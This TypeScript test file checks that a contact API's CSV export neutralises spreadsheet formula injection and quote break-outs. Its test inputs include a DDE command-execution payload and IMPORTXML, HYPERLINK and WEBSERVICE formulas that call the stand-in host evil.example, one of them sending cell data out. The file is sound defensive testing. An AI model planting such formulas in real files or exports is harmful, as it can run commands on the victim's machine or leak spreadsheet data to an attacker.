import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestApp } from "../app.ts";
import { ADMIN, bearer, createAuthTestApp, signIn } from "../auth.ts";
import { contactRequest, postContact } from "../contact.ts";
import { engines } from "../database.ts";

// CSV formula injection in the export, in every column a visitor or staff can write to, and
// cells that try to break out of their quotes. The basic = + @ case is in
// modules/contacts/routes.test.ts ("exports the current search as CSV").

/** Reads the export as Excel does: `;` between quoted cells, `""` inside them, CRLF between rows. */
function parseCsv(text: string) {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ";") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += char;
  }
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe.each(engines)("CSV export against formula injection on %s", (engine) => {
  let t: TestApp;
  let token: string;
  beforeAll(async () => {
    t = await createAuthTestApp(engine, { contactRateLimit: [{ max: 1_000_000, windowMs: 60_000 }] });
    token = (await signIn(t.app, ADMIN)).accessToken;
  });
  afterAll(() => t.close());

  it("neutralises every formula start in every column, and no cell escapes its quotes", async () => {
    const created = await postContact(
      t.app,
      contactRequest({
        email: "formulas@finca.ec",
        firstName: "-2+3+cmd|' /C calc'!A0",
        lastName: "@SUM(A1:A9)",
        company: '=IMPORTXML("http://evil.example";"//a")',
        message: '+1";"=1+1";"\r\n=HYPERLINK("http://evil.example")',
      }),
    );
    expect(created.statusCode, created.body).toBe(201);
    const list = await t.app.inject({ method: "GET", url: "/api/client-message", headers: bearer(token) });
    const messageId = list.json().content[0].messages[0].id;
    const replied = await t.app.inject({
      method: "POST",
      url: `/api/client-message/${messageId}/reply`,
      headers: bearer(token),
      payload: { reply: '=WEBSERVICE("http://evil.example/?"&A1)' },
    });
    expect(replied.statusCode).toBe(200);

    const response = await t.app.inject({
      method: "GET",
      url: "/api/client-message/export?keyword=formulas@finca.ec&field=correo",
      headers: bearer(token),
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toMatch(/^text\/csv/);
    expect(response.headers["content-disposition"]).toMatch(/^attachment;/);
    expect(response.headers["x-content-type-options"]).toBe("nosniff");
    expect(response.headers["cache-control"]).toBe("no-store");
    const [header, row, ...rest] = parseCsv(response.rawPayload.toString("utf8").replace(/^\uFEFF/, ""));
    expect(rest).toEqual([]);
    expect(row).toHaveLength(header?.length ?? 0);
    for (const cell of row ?? []) expect(cell, cell).not.toMatch(FORMULA_START);
    const cells = new Map(header?.map((name, index) => [name, row?.[index]]));
    expect(cells.get("Nombre")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(cells.get("Apellido")).toBe("'@SUM(A1:A9)");
    expect(cells.get("Empresa")).toBe(`'=IMPORTXML("http://evil.example";"//a")`);
    expect(cells.get("Mensaje")).toBe(`'+1";"=1+1";"\r\n=HYPERLINK("http://evil.example")`);
    expect(cells.get("Respuesta")).toBe(`'=WEBSERVICE("http://evil.example/?"&A1)`);
  });
});
